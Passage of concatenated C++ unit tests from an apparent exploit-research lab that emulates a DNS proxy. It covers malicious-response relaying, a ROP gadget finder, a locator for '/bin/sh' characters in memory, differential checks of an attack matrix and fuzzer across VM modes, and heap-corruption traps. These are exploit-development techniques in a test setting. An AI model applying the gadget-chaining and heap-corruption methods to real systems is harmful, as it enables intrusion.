  net.DeliverAll();

  EXPECT_EQ(resolver.forwarded(), 1u);
  EXPECT_EQ(resolver.relayed(), 1u);
  EXPECT_EQ(evil_ns.queries_seen(), 1u);
  ASSERT_EQ(client.received.size(), 1u);
  // The relayed payload is the attacker's response, verbatim: echoed id,
  // oversized name and all.
  const util::Bytes& wire = client.received[0].payload;
  EXPECT_EQ(wire[0], 0x12);
  EXPECT_EQ(wire[1], 0x34);
  EXPECT_GT(wire.size(), 4096u);
  EXPECT_EQ(client.received[0].src_ip, resolver.ip());  // looks legitimate
}

TEST(ForwardingResolver, IgnoresUnsolicitedResponses) {
  Network net;
  ForwardingResolver resolver("1.1.1.1");
  net.Attach(resolver.ip(), &resolver);
  dns::Message fake = dns::Message::ResponseFor(dns::Message::Query(9, "x.y"));
  (void)net.Send({"6.6.6.6", kDnsPort, "1.1.1.1", kDnsPort,
                  dns::Encode(fake).value()});
  net.DeliverAll();
  EXPECT_EQ(resolver.relayed(), 0u);
}

}  // namespace
}  // namespace connlab::net
