// Gadget finder + memstr tests (the ropper / ROPgadget roles).
#include <gtest/gtest.h>

#include "src/gadget/finder.hpp"
#include "src/gadget/memstr.hpp"
#include "src/isa/varm.hpp"
#include "src/loader/boot.hpp"

namespace connlab::gadget {
namespace {

using isa::Arch;
using loader::Boot;
using loader::ProtectionConfig;

std::unique_ptr<loader::System> MakeSys(Arch arch) {
  auto sys = Boot(arch, ProtectionConfig::None(), 17);
  EXPECT_TRUE(sys.ok());
  return std::move(sys).value();
}

TEST(Finder, FindsThePaperPpprGadgetOnVX86) {
  auto sys = MakeSys(Arch::kVX86);
  Finder finder(*sys);
  auto pppr = finder.FindPopRet(4);
  ASSERT_TRUE(pppr.ok()) << pppr.status().ToString();
  // The planted gadget symbol matches what scanning found (or an
  // equivalent earlier one).
  EXPECT_EQ(pppr.value().instrs.size(), 5u);
  for (int i = 0; i < 4; ++i) {
    EXPECT_EQ(pppr.value().instrs[static_cast<std::size_t>(i)].op, isa::Op::kPop);
  }
  EXPECT_EQ(pppr.value().instrs.back().op, isa::Op::kRet);
}

TEST(Finder, FindsSmallerPopsToo) {
  auto sys = MakeSys(Arch::kVX86);
  Finder finder(*sys);
  EXPECT_TRUE(finder.FindPopRet(1).ok());
  EXPECT_TRUE(finder.FindPopRet(2).ok());
}

TEST(Finder, VX86ScanIsByteGranular) {
  // Unintended gadgets from unaligned decoding must appear: gadget count
  // should exceed the handful of intentionally planted ones.
  auto sys = MakeSys(Arch::kVX86);
  Finder finder(*sys);
  const auto all = finder.FindAll(3);
  EXPECT_GT(all.size(), 10u);
  bool unaligned = false;
  for (const Gadget& g : all) unaligned |= (g.addr % 4) != 0;
  EXPECT_TRUE(unaligned);
}

TEST(Finder, FindsThePaperPopRegsGadgetOnVARM) {
  auto sys = MakeSys(Arch::kVARM);
  Finder finder(*sys);
  const std::uint16_t need = isa::varm::Mask(
      {isa::kR0, isa::kR1, isa::kR2, isa::kR3, isa::kR5, isa::kR6, isa::kR7});
  auto gadget = finder.FindPopRegsPc(need);
  ASSERT_TRUE(gadget.ok()) << gadget.status().ToString();
  const std::uint16_t mask = gadget.value().instrs.front().reg_mask;
  EXPECT_EQ(mask & need, need);
  EXPECT_NE(mask & (1u << isa::kPC), 0);
  EXPECT_EQ(gadget.value().addr, sys->Sym("gadget.pop_regs_pc").value());
}

TEST(Finder, SmallestCoveringGadgetPreferred) {
  auto sys = MakeSys(Arch::kVARM);
  Finder finder(*sys);
  // Asking only for r0 should find the narrow pop {r0, pc}, not the wide one.
  auto narrow = finder.FindPopRegsPc(isa::varm::Mask({isa::kR0}));
  ASSERT_TRUE(narrow.ok());
  EXPECT_EQ(narrow.value().addr, sys->Sym("gadget.pop_r0_pc").value());
}

TEST(Finder, FindsBlxR3WithTail) {
  auto sys = MakeSys(Arch::kVARM);
  Finder finder(*sys);
  auto blx = finder.FindBlx(isa::kR3);
  ASSERT_TRUE(blx.ok());
  EXPECT_EQ(blx.value().addr, sys->Sym("gadget.blx_r3").value());
  // The tail shows how control continues after the callee returns.
  ASSERT_GE(blx.value().instrs.size(), 2u);
  EXPECT_EQ(blx.value().instrs[1].op, isa::Op::kPop);
  EXPECT_NE(blx.value().instrs[1].reg_mask & (1u << isa::kPC), 0);
}

TEST(Finder, NoBlxForUnusedRegister) {
  auto sys = MakeSys(Arch::kVARM);
  Finder finder(*sys);
  EXPECT_FALSE(finder.FindBlx(isa::kR9).ok());
}

TEST(Finder, ArchMismatchIsFailedPrecondition) {
  auto x86 = MakeSys(Arch::kVX86);
  auto arm = MakeSys(Arch::kVARM);
  EXPECT_EQ(Finder(*arm).FindPopRet(4).status().code(),
            util::StatusCode::kFailedPrecondition);
  EXPECT_EQ(Finder(*x86).FindPopRegsPc(1).status().code(),
            util::StatusCode::kFailedPrecondition);
  EXPECT_EQ(Finder(*x86).FindBlx(isa::kR3).status().code(),
            util::StatusCode::kFailedPrecondition);
}

TEST(Finder, GadgetToStringReadable) {
  auto sys = MakeSys(Arch::kVARM);
  Finder finder(*sys);
  auto blx = finder.FindBlx(isa::kR3);
  ASSERT_TRUE(blx.ok());
  const std::string text = blx.value().ToString(Arch::kVARM);
  EXPECT_NE(text.find("blx r3"), std::string::npos);
  EXPECT_NE(text.find("pop {r8, pc}"), std::string::npos);
}

TEST(MemStr, FindsEveryCharOfBinSh) {
  for (Arch arch : {Arch::kVX86, Arch::kVARM}) {
    auto sys = MakeSys(arch);
    MemStr memstr(*sys);
    auto addrs = memstr.FindChars("/bin/sh");
    ASSERT_TRUE(addrs.ok()) << addrs.status().ToString();
    EXPECT_EQ(addrs.value().size(), 7u);
    // Every returned address really holds the character.
    const std::string s = "/bin/sh";
    for (std::size_t i = 0; i < s.size(); ++i) {
      auto byte = sys->space.DebugRead(addrs.value()[i], 1);
      ASSERT_TRUE(byte.ok());
      EXPECT_EQ(byte.value()[0], static_cast<std::uint8_t>(s[i]));
    }
  }
}

TEST(MemStr, MissingCharIsNotFound) {
  auto sys = MakeSys(Arch::kVX86);
  MemStr memstr(*sys);
  EXPECT_EQ(memstr.FindChar('\x7F').status().code(),
            util::StatusCode::kNotFound);
}

TEST(MemStr, SubstringSearch) {
  auto sys = MakeSys(Arch::kVX86);
  MemStr memstr(*sys, {".rodata"});
  auto addr = memstr.FindSubstring("connman");
  ASSERT_TRUE(addr.ok());
  auto bytes = sys->space.DebugRead(addr.value(), 7).value();
  EXPECT_EQ(bytes, util::BytesOf("connman"));
  EXPECT_FALSE(memstr.FindSubstring("zzz-not-present").ok());
  EXPECT_FALSE(memstr.FindSubstring("").ok());
}

TEST(MemStr, SectionScopingMatters) {
  auto sys = MakeSys(Arch::kVX86);
  // "connman 1.34" lives in .rodata; scanning only libc misses it.
  MemStr libc_only(*sys, {"libc"});
  EXPECT_FALSE(libc_only.FindSubstring("connman").ok());
  EXPECT_TRUE(libc_only.FindSubstring("/bin/sh").ok());
}

}  // namespace
}  // namespace connlab::gadget
