// Differential correctness gate for the VM hot-path optimisations: the
// predecode cache, snapshot fast reboots, shared decode plans and
// dirty-page-only restores must be pure speedups.
//
// Every scenario below runs twice — once in fast mode (predecode cache on,
// snapshot reboots on) and once in legacy mode (byte-copying fetch/decode,
// full loader re-Boots) — and the observable outcomes must be identical:
// stop reasons, failure details, retired-step counts, events, crash-bucket
// sets and coverage digests. Any divergence means the cache served a stale
// decode or a restore differs from a real boot, and fails the build.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "src/attack/matrix.hpp"
#include "src/fuzz/corpus.hpp"
#include "src/fuzz/fuzzer.hpp"
#include "src/loader/snapshot.hpp"
#include "src/vm/cpu.hpp"
#include "src/vm/superblock.hpp"

namespace connlab {
namespace {

/// Scoped predecode default: constructors deep inside Boot read the
/// process-wide default, so the differential runs toggle it around whole
/// scenarios (single-threaded — these tests never fork workers in legacy
/// mode and fast mode at the same time).
class PredecodeDefault {
 public:
  explicit PredecodeDefault(bool enabled) {
    vm::Cpu::set_predecode_default(enabled);
  }
  ~PredecodeDefault() { vm::Cpu::set_predecode_default(true); }
};

/// Same shape for the shared decode plans (Boot reads the default when
/// deciding whether to bind plans to the freshly-loaded text images).
class SharedPlansDefault {
 public:
  explicit SharedPlansDefault(bool enabled) {
    vm::Cpu::set_shared_plans_default(enabled);
  }
  ~SharedPlansDefault() { vm::Cpu::set_shared_plans_default(true); }
};

/// And for dirty-page-only snapshot restores (RestoreSnapshot reads the
/// default whenever the caller passes RestoreMode::kDefault).
class DirtyRestoreGuard {
 public:
  explicit DirtyRestoreGuard(bool enabled) {
    loader::SetDirtyRestoreDefault(enabled);
  }
  ~DirtyRestoreGuard() { loader::SetDirtyRestoreDefault(true); }
};

/// And for the superblock threaded-code tier (fresh CPUs read the default
/// at construction, so whole boots flip with it).
class SuperblockDefault {
 public:
  explicit SuperblockDefault(bool enabled) {
    vm::Cpu::set_superblocks_default(enabled);
  }
  ~SuperblockDefault() { vm::Cpu::set_superblocks_default(true); }
};

/// And for block linking / continuation within the tier.
class BlockLinksDefault {
 public:
  explicit BlockLinksDefault(bool enabled) {
    vm::Cpu::set_block_links_default(enabled);
  }
  ~BlockLinksDefault() { vm::Cpu::set_block_links_default(true); }
};

/// And for the shared per-image block registry. The registry itself is
/// cleared on entry and exit so every combo starts cold — imports must be
/// earned under the combo being tested, never inherited from the previous
/// one.
class SharedSuperblocksDefault {
 public:
  explicit SharedSuperblocksDefault(bool enabled) {
    vm::Cpu::set_shared_superblocks_default(enabled);
    vm::SharedSuperblockRegistry::Instance().Clear();
  }
  ~SharedSuperblocksDefault() {
    vm::Cpu::set_shared_superblocks_default(true);
    vm::SharedSuperblockRegistry::Instance().Clear();
  }
};

TEST(Differential, SixAttackMatrixIdenticalAcrossModes) {
  std::vector<attack::AttackResult> fast;
  std::vector<attack::AttackResult> legacy;
  {
    PredecodeDefault mode(true);
    fast = attack::RunSixAttackMatrix(4242).value();
  }
  {
    PredecodeDefault mode(false);
    legacy = attack::RunSixAttackMatrix(4242).value();
  }
  ASSERT_EQ(fast.size(), legacy.size());
  ASSERT_FALSE(fast.empty());
  for (std::size_t i = 0; i < fast.size(); ++i) {
    SCOPED_TRACE("row " + std::to_string(i) + ": " + fast[i].RowLabel());
    EXPECT_EQ(fast[i].kind, legacy[i].kind);
    EXPECT_EQ(fast[i].shell, legacy[i].shell);
    EXPECT_EQ(fast[i].crash, legacy[i].crash);
    EXPECT_EQ(fast[i].exploit_available, legacy[i].exploit_available);
    EXPECT_EQ(fast[i].failure, legacy[i].failure);
    EXPECT_EQ(fast[i].detail, legacy[i].detail);
    EXPECT_EQ(fast[i].guest_steps, legacy[i].guest_steps);
    EXPECT_EQ(fast[i].payload_bytes, legacy[i].payload_bytes);
    EXPECT_EQ(fast[i].response_bytes, legacy[i].response_bytes);
  }
}

fuzz::FuzzConfig ReplayConfig(bool fast_reset) {
  fuzz::FuzzConfig config;
  config.target.kind = fuzz::TargetKind::kDnsproxy;
  config.target.fast_reset = fast_reset;
  config.seed = 42;
  config.max_execs = 3000;
  config.workers = 1;
  config.minimize = false;
  return config;
}

struct ReplayOutcome {
  std::uint64_t digest = 0;
  std::size_t coverage_cells = 0;
  std::size_t buckets = 0;
  std::uint64_t crashing_execs = 0;
  std::size_t corpus_size = 0;
};

ReplayOutcome RunReplay(bool predecode, bool fast_reset) {
  PredecodeDefault mode(predecode);
  auto report = fuzz::Fuzzer(ReplayConfig(fast_reset)).Run();
  EXPECT_TRUE(report.ok());
  ReplayOutcome out;
  if (!report.ok()) return out;
  out.digest = report.value().stats.coverage_digest;
  out.coverage_cells = report.value().stats.coverage_cells;
  out.buckets = report.value().triage.buckets().size();
  out.crashing_execs = report.value().stats.crashing_execs;
  out.corpus_size = report.value().stats.corpus_size;
  return out;
}

TEST(Differential, FuzzReplayIdenticalAcrossModes) {
  // Full fast mode vs full legacy mode, plus each optimisation alone, so a
  // regression pinpoints which half broke.
  const ReplayOutcome fast = RunReplay(true, true);
  const ReplayOutcome cache_only = RunReplay(true, false);
  const ReplayOutcome snapshot_only = RunReplay(false, true);
  const ReplayOutcome legacy = RunReplay(false, false);

  EXPECT_EQ(fast.digest, legacy.digest);
  EXPECT_EQ(fast.coverage_cells, legacy.coverage_cells);
  EXPECT_EQ(fast.buckets, legacy.buckets);
  EXPECT_EQ(fast.crashing_execs, legacy.crashing_execs);
  EXPECT_EQ(fast.corpus_size, legacy.corpus_size);

  EXPECT_EQ(cache_only.digest, legacy.digest);
  EXPECT_EQ(snapshot_only.digest, legacy.digest);
  EXPECT_EQ(cache_only.buckets, legacy.buckets);
  EXPECT_EQ(snapshot_only.buckets, legacy.buckets);
}

// --- PR 4 features: shared decode plans × dirty-page restores --------------

struct FeatureCombo {
  bool shared_plans;
  bool dirty_restore;
  std::string Label() const {
    return std::string("plans=") + (shared_plans ? "on" : "off") +
           " dirty_restore=" + (dirty_restore ? "on" : "off");
  }
};

constexpr FeatureCombo kCombos[] = {
    {true, true}, {true, false}, {false, true}, {false, false}};

/// The six-attack matrix — every protection level × technique outcome from
/// the paper — must be bit-for-bit identical in all four on/off combos of
/// the two new fast paths.
TEST(Differential, SixAttackMatrixIdenticalAcrossPlanAndRestoreCombos) {
  std::vector<attack::AttackResult> baseline;
  std::string baseline_label;
  for (const FeatureCombo& combo : kCombos) {
    SharedPlansDefault plans(combo.shared_plans);
    DirtyRestoreGuard dirty(combo.dirty_restore);
    std::vector<attack::AttackResult> rows =
        attack::RunSixAttackMatrix(4242).value();
    if (baseline.empty()) {
      baseline = std::move(rows);
      baseline_label = combo.Label();
      ASSERT_FALSE(baseline.empty());
      continue;
    }
    ASSERT_EQ(rows.size(), baseline.size());
    for (std::size_t i = 0; i < rows.size(); ++i) {
      SCOPED_TRACE(combo.Label() + " vs " + baseline_label + ", row " +
                   std::to_string(i) + ": " + rows[i].RowLabel());
      EXPECT_EQ(rows[i].kind, baseline[i].kind);
      EXPECT_EQ(rows[i].shell, baseline[i].shell);
      EXPECT_EQ(rows[i].crash, baseline[i].crash);
      EXPECT_EQ(rows[i].exploit_available, baseline[i].exploit_available);
      EXPECT_EQ(rows[i].failure, baseline[i].failure);
      EXPECT_EQ(rows[i].detail, baseline[i].detail);
      EXPECT_EQ(rows[i].guest_steps, baseline[i].guest_steps);
      EXPECT_EQ(rows[i].payload_bytes, baseline[i].payload_bytes);
      EXPECT_EQ(rows[i].response_bytes, baseline[i].response_bytes);
    }
  }
}

/// Fixed-seed fuzz campaign (snapshot reboots on, so dirty-only restores
/// actually engage): coverage digest, buckets and corpus must not move in
/// any of the four combos.
TEST(Differential, FuzzReplayIdenticalAcrossPlanAndRestoreCombos) {
  ReplayOutcome baseline{};
  bool have_baseline = false;
  for (const FeatureCombo& combo : kCombos) {
    SharedPlansDefault plans(combo.shared_plans);
    DirtyRestoreGuard dirty(combo.dirty_restore);
    const ReplayOutcome out = RunReplay(true, true);
    if (!have_baseline) {
      baseline = out;
      have_baseline = true;
      continue;
    }
    SCOPED_TRACE(combo.Label());
    EXPECT_EQ(out.digest, baseline.digest);
    EXPECT_EQ(out.coverage_cells, baseline.coverage_cells);
    EXPECT_EQ(out.buckets, baseline.buckets);
    EXPECT_EQ(out.crashing_execs, baseline.crashing_execs);
    EXPECT_EQ(out.corpus_size, baseline.corpus_size);
  }
}

/// Multi-worker determinism with both features on: worker count must not
/// leak into the merged outcome, and two runs of the same config agree.
TEST(Differential, MultiWorkerSharedPlanCampaignIsDeterministic) {
  fuzz::FuzzConfig config = ReplayConfig(true);
  config.workers = 3;
  auto first = fuzz::Fuzzer(config).Run();
  auto second = fuzz::Fuzzer(config).Run();
  ASSERT_TRUE(first.ok());
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(first.value().stats.execs, second.value().stats.execs);
  EXPECT_EQ(first.value().stats.coverage_digest,
            second.value().stats.coverage_digest);
  EXPECT_EQ(first.value().triage.buckets().size(),
            second.value().triage.buckets().size());
}

// --- PR 8: epoch-batched cross-worker sync ---------------------------------

ReplayOutcome RunMultiWorkerReplay(bool predecode, std::uint64_t sync) {
  PredecodeDefault mode(predecode);
  fuzz::FuzzConfig config = ReplayConfig(/*fast_reset=*/predecode);
  config.workers = 3;
  config.sync_interval = sync;
  auto report = fuzz::Fuzzer(config).Run();
  EXPECT_TRUE(report.ok());
  ReplayOutcome out;
  if (!report.ok()) return out;
  out.digest = report.value().stats.coverage_digest;
  out.coverage_cells = report.value().stats.coverage_cells;
  out.buckets = report.value().triage.buckets().size();
  out.crashing_execs = report.value().stats.crashing_execs;
  out.corpus_size = report.value().stats.corpus_size;
  return out;
}

/// The differential gate must keep holding once workers exchange corpus
/// deltas mid-campaign: for a FIXED sync setting, fast and legacy VM modes
/// land on the same merged outcome. Sync on and sync off are different
/// (equally deterministic) campaigns — workers that absorb each other's
/// finds mutate different parents — so the comparison is within each sync
/// setting across VM modes, never across sync settings.
TEST(Differential, EpochSyncedReplayIdenticalAcrossVmModes) {
  // Three workers x 1000 execs, an exchange every 400: epochs fire mid-run.
  const ReplayOutcome fast_synced = RunMultiWorkerReplay(true, 400);
  const ReplayOutcome legacy_synced = RunMultiWorkerReplay(false, 400);
  EXPECT_EQ(fast_synced.digest, legacy_synced.digest);
  EXPECT_EQ(fast_synced.coverage_cells, legacy_synced.coverage_cells);
  EXPECT_EQ(fast_synced.buckets, legacy_synced.buckets);
  EXPECT_EQ(fast_synced.crashing_execs, legacy_synced.crashing_execs);
  EXPECT_EQ(fast_synced.corpus_size, legacy_synced.corpus_size);

  const ReplayOutcome fast_solo = RunMultiWorkerReplay(true, 0);
  const ReplayOutcome legacy_solo = RunMultiWorkerReplay(false, 0);
  EXPECT_EQ(fast_solo.digest, legacy_solo.digest);
  EXPECT_EQ(fast_solo.coverage_cells, legacy_solo.coverage_cells);
  EXPECT_EQ(fast_solo.buckets, legacy_solo.buckets);
  EXPECT_EQ(fast_solo.crashing_execs, legacy_solo.crashing_execs);
  EXPECT_EQ(fast_solo.corpus_size, legacy_solo.corpus_size);
}

// --- PR 9: superblock threaded-code tier -----------------------------------

struct TierCombo {
  bool superblocks;
  bool block_links;
  bool shared_blocks;
  bool shared_plans;
  bool dirty_restore;
  std::string Label() const {
    return std::string("superblocks=") + (superblocks ? "on" : "off") +
           " links=" + (block_links ? "on" : "off") +
           " shared_blocks=" + (shared_blocks ? "on" : "off") +
           " plans=" + (shared_plans ? "on" : "off") +
           " dirty_restore=" + (dirty_restore ? "on" : "off");
  }
};

// The tier ladder crossed with the block-link and shared-block-cache axes
// (PR 10), then with the plan/restore axes. With superblocks off the link
// and sharing knobs are inert, so those rows only vary plans/restore —
// twelve combos cover every meaningful interaction without running the
// full 2^5.
constexpr TierCombo kTierCombos[] = {
    // Linked tier (everything on) across plans × restore.
    {true, true, true, true, true},
    {true, true, true, true, false},
    {true, true, true, false, true},
    {true, true, true, false, false},
    // Links on, private block compilation.
    {true, true, false, true, true},
    // Bare superblock tier (links off — sharing is inert without them).
    {true, false, true, true, true},
    {true, false, false, true, true},
    {true, false, false, false, false},
    // Interpreter baseline rows.
    {false, true, true, true, true},
    {false, true, true, true, false},
    {false, true, true, false, true},
    {false, true, true, false, false}};

/// The full attack matrix must be bit-for-bit identical with the superblock
/// tier on vs off, crossed with the decode-plan and dirty-restore axes — a
/// compiled block serving one stale op anywhere in the exploit chains (SMC
/// shellcode, W^X flips, canary/CFI traps, diversity reshuffles) moves a
/// row and fails this.
TEST(Differential, SixAttackMatrixIdenticalAcrossSuperblockCombos) {
  std::vector<attack::AttackResult> baseline;
  std::string baseline_label;
  for (const TierCombo& combo : kTierCombos) {
    SuperblockDefault tier(combo.superblocks);
    BlockLinksDefault links(combo.block_links);
    SharedSuperblocksDefault shared_blocks(combo.shared_blocks);
    SharedPlansDefault plans(combo.shared_plans);
    DirtyRestoreGuard dirty(combo.dirty_restore);
    std::vector<attack::AttackResult> rows =
        attack::RunSixAttackMatrix(4242).value();
    if (baseline.empty()) {
      baseline = std::move(rows);
      baseline_label = combo.Label();
      ASSERT_FALSE(baseline.empty());
      continue;
    }
    ASSERT_EQ(rows.size(), baseline.size());
    for (std::size_t i = 0; i < rows.size(); ++i) {
      SCOPED_TRACE(combo.Label() + " vs " + baseline_label + ", row " +
                   std::to_string(i) + ": " + rows[i].RowLabel());
      EXPECT_EQ(rows[i].kind, baseline[i].kind);
      EXPECT_EQ(rows[i].shell, baseline[i].shell);
      EXPECT_EQ(rows[i].crash, baseline[i].crash);
      EXPECT_EQ(rows[i].exploit_available, baseline[i].exploit_available);
      EXPECT_EQ(rows[i].failure, baseline[i].failure);
      EXPECT_EQ(rows[i].detail, baseline[i].detail);
      EXPECT_EQ(rows[i].guest_steps, baseline[i].guest_steps);
      EXPECT_EQ(rows[i].payload_bytes, baseline[i].payload_bytes);
      EXPECT_EQ(rows[i].response_bytes, baseline[i].response_bytes);
    }
  }
}

/// Fixed-seed fuzz replay across the same eight combos: coverage digest,
/// buckets, crash counts and corpus are invariants of the campaign, not of
/// the execution tier. Coverage is recorded per retired instruction inside
/// compiled blocks, so even the AFL edge stream must not move.
TEST(Differential, FuzzReplayIdenticalAcrossSuperblockCombos) {
  ReplayOutcome baseline{};
  bool have_baseline = false;
  for (const TierCombo& combo : kTierCombos) {
    SuperblockDefault tier(combo.superblocks);
    BlockLinksDefault links(combo.block_links);
    SharedSuperblocksDefault shared_blocks(combo.shared_blocks);
    SharedPlansDefault plans(combo.shared_plans);
    DirtyRestoreGuard dirty(combo.dirty_restore);
    const ReplayOutcome out = RunReplay(true, true);
    if (!have_baseline) {
      baseline = out;
      have_baseline = true;
      continue;
    }
    SCOPED_TRACE(combo.Label());
    EXPECT_EQ(out.digest, baseline.digest);
    EXPECT_EQ(out.coverage_cells, baseline.coverage_cells);
    EXPECT_EQ(out.buckets, baseline.buckets);
    EXPECT_EQ(out.crashing_execs, baseline.crashing_execs);
    EXPECT_EQ(out.corpus_size, baseline.corpus_size);
  }
}

/// The PR 8 pinned eight-worker epoch-synced campaign, replayed up the tier
/// ladder — interpreter, bare superblocks, linked, linked + shared block
/// cache: every mode must land on the very digests committed before the
/// superblock tier existed (tests/test_fuzz.cpp pins the same constants).
/// This is the cross-PR anchor — the tiers changed nothing observable, even
/// under worker-parallel execution with mid-campaign corpus exchanges and,
/// in the shared-cache mode, workers racing to publish/import compiled
/// blocks through the process-global registry.
TEST(Differential, EightWorkerSyncedDigestUnmovedByTierModes) {
  constexpr std::uint64_t kCoverageDigest = 0xd8788bc796ab373cULL;
  constexpr std::uint64_t kCorpusDigest = 0x9c372e9e5056301aULL;
  struct TierMode {
    bool superblocks, links, shared;
    const char* label;
  };
  constexpr TierMode kModes[] = {
      {false, false, false, "interpreter"},
      {true, false, false, "bare superblocks"},
      {true, true, false, "linked"},
      {true, true, true, "linked + shared cache"}};
  for (const TierMode& tier_mode : kModes) {
    SCOPED_TRACE(tier_mode.label);
    SuperblockDefault tier(tier_mode.superblocks);
    BlockLinksDefault links(tier_mode.links);
    SharedSuperblocksDefault shared_blocks(tier_mode.shared);
    fuzz::FuzzConfig config;
    config.target.kind = fuzz::TargetKind::kDnsproxy;
    config.seed = 42;
    config.max_execs = 8000;
    config.workers = 8;
    config.sync_interval = 250;
    config.minimize = false;
    auto report = fuzz::Fuzzer(config).Run();
    ASSERT_TRUE(report.ok()) << report.status().ToString();
    EXPECT_EQ(report.value().stats.coverage_digest, kCoverageDigest)
        << std::hex << report.value().stats.coverage_digest;
    std::uint64_t corpus_digest = 0xcbf29ce484222325ULL;  // FNV-1a 64
    for (const char c : fuzz::SerializeCorpus(report.value().corpus)) {
      corpus_digest ^= static_cast<std::uint8_t>(c);
      corpus_digest *= 0x100000001b3ULL;
    }
    EXPECT_EQ(corpus_digest, kCorpusDigest) << std::hex << corpus_digest;
  }
}

}  // namespace
}  // namespace connlab
