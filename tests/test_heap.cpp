// Unit tests for the deterministic guest heap: boundary tags, size-class
// freelists, coalescing, and the heap-integrity corruption traps.
#include <gtest/gtest.h>

#include <vector>

#include "src/heap/heap.hpp"
#include "src/mem/address_space.hpp"
#include "src/mem/perms.hpp"

namespace connlab::heap {
namespace {

using mem::GuestAddr;
using util::StatusCode;

constexpr GuestAddr kHeapBase = 0x20000;
constexpr std::uint32_t kHeapSize = 0x2000;
constexpr std::uint32_t kSecret = 0xC0FFEE42;

struct Lab {
  mem::AddressSpace space;
  GuestHeap heap;

  explicit Lab(bool integrity = false)
      : heap((Map(space), space), kHeapBase, kHeapSize) {
    EXPECT_TRUE(heap.Init(kSecret, integrity).ok());
  }

  static void Map(mem::AddressSpace& s) {
    ASSERT_TRUE(s.Map("heap", kHeapBase, kHeapSize, mem::kPermRW).ok());
  }
};

TEST(GuestHeap, InitFormatsAndAttaches) {
  Lab lab;
  EXPECT_TRUE(lab.heap.Attached());
  EXPECT_EQ(lab.heap.FirstChunk(), kHeapBase + GuestHeap::kArenaSize);
  // A second view over the same guest memory re-attaches without Init —
  // exactly what happens after a snapshot restore.
  GuestHeap view(lab.space, kHeapBase, kHeapSize);
  EXPECT_TRUE(view.Attached());
  // A view over unformatted memory does not.
  mem::AddressSpace fresh;
  Lab::Map(fresh);
  GuestHeap cold(fresh, kHeapBase, kHeapSize);
  EXPECT_FALSE(cold.Attached());
}

TEST(GuestHeap, AllocIsDeterministicAndAligned) {
  Lab a;
  Lab b;
  for (std::uint32_t bytes : {1u, 13u, 24u, 64u, 200u}) {
    auto pa = a.heap.Alloc(bytes);
    auto pb = b.heap.Alloc(bytes);
    ASSERT_TRUE(pa.ok());
    ASSERT_TRUE(pb.ok());
    EXPECT_EQ(pa.value(), pb.value()) << bytes;
    EXPECT_EQ(pa.value() % GuestHeap::kAlign, 4u)
        << "payload = chunk + 12, so payloads sit at 8k+4";
    auto sz = a.heap.PayloadSize(pa.value());
    ASSERT_TRUE(sz.ok());
    EXPECT_GE(sz.value(), bytes);
  }
  // First allocation carves the first chunk's payload.
  Lab c;
  auto first = c.heap.Alloc(8);
  ASSERT_TRUE(first.ok());
  EXPECT_EQ(first.value(), c.heap.FirstChunk() + GuestHeap::kHeaderSize);
}

TEST(GuestHeap, FreelistReusesExactFit) {
  Lab lab;
  auto a = lab.heap.Alloc(48);
  auto keep = lab.heap.Alloc(48);  // pins the wilderness away from `a`
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(keep.ok());
  ASSERT_TRUE(lab.heap.Free(a.value()).ok());
  auto again = lab.heap.Alloc(48);
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(again.value(), a.value());
  EXPECT_EQ(lab.heap.stats().allocs, 3u);
  EXPECT_EQ(lab.heap.stats().frees, 1u);
}

TEST(GuestHeap, SplitAndCoalesce) {
  Lab lab;
  auto big = lab.heap.Alloc(256);
  auto fence = lab.heap.Alloc(16);  // keeps `big` off the wilderness
  ASSERT_TRUE(big.ok());
  ASSERT_TRUE(fence.ok());
  ASSERT_TRUE(lab.heap.Free(big.value()).ok());
  // A small alloc splits the freed 256-byte chunk...
  auto small = lab.heap.Alloc(16);
  ASSERT_TRUE(small.ok());
  EXPECT_EQ(small.value(), big.value());
  EXPECT_GE(lab.heap.stats().splits, 1u);
  // ...and freeing both halves coalesces them back into one chunk.
  auto rest = lab.heap.Alloc(128);
  ASSERT_TRUE(rest.ok());
  const std::size_t before = lab.heap.Walk().size();
  ASSERT_TRUE(lab.heap.Free(small.value()).ok());
  ASSERT_TRUE(lab.heap.Free(rest.value()).ok());
  EXPECT_GE(lab.heap.stats().coalesces, 1u);
  EXPECT_LT(lab.heap.Walk().size(), before);
  // The reunited chunk serves the original size again at the same spot.
  auto round2 = lab.heap.Alloc(256);
  ASSERT_TRUE(round2.ok());
  EXPECT_EQ(round2.value(), big.value());
}

TEST(GuestHeap, WalkReportsLiveAndFreeChunks) {
  Lab lab;
  auto a = lab.heap.Alloc(32);
  auto b = lab.heap.Alloc(32);
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(b.ok());
  ASSERT_TRUE(lab.heap.Free(a.value()).ok());
  std::vector<GuestHeap::ChunkInfo> walk = lab.heap.Walk();
  ASSERT_EQ(walk.size(), 2u);
  EXPECT_EQ(walk[0].addr, lab.heap.FirstChunk());
  EXPECT_FALSE(walk[0].in_use);
  EXPECT_TRUE(walk[1].in_use);
}

TEST(GuestHeap, ExhaustionFailsCleanly) {
  Lab lab;
  util::Status last = util::OkStatus();
  int served = 0;
  for (int i = 0; i < 100; ++i) {
    auto p = lab.heap.Alloc(256);
    if (!p.ok()) {
      last = p.status();
      break;
    }
    ++served;
  }
  EXPECT_EQ(last.code(), StatusCode::kResourceExhausted);
  EXPECT_GT(served, 10);
  EXPECT_EQ(lab.heap.stats().corruptions, 0u);
}

TEST(GuestHeap, FreeRejectsBogusPointer) {
  Lab lab;
  EXPECT_FALSE(lab.heap.Free(kHeapBase + 2).ok());
  EXPECT_FALSE(lab.heap.Free(0xDEAD0000).ok());
}

TEST(GuestHeap, IntegrityCatchesGuardSmash) {
  Lab lab(/*integrity=*/true);
  auto a = lab.heap.Alloc(32);
  ASSERT_TRUE(a.ok());
  // Overflow stomps the *next* chunk's guard word the way camstored's
  // oversized PUT does; with integrity armed, Free refuses the neighbour.
  auto b = lab.heap.Alloc(32);
  ASSERT_TRUE(b.ok());
  const GuestAddr b_chunk = b.value() - GuestHeap::kHeaderSize;
  ASSERT_TRUE(lab.space.WriteU32(b_chunk + 8, 0x41414141).ok());
  EXPECT_EQ(lab.heap.Free(b.value()).code(), StatusCode::kAborted);
  EXPECT_EQ(lab.heap.stats().corruptions, 1u);
}

TEST(GuestHeap, IntegrityCatchesUnlinkPointerForgery) {
  Lab lab(/*integrity=*/true);
  // Freed chunk sits in a bin; corrupting its fd breaks fd->bk == chunk,
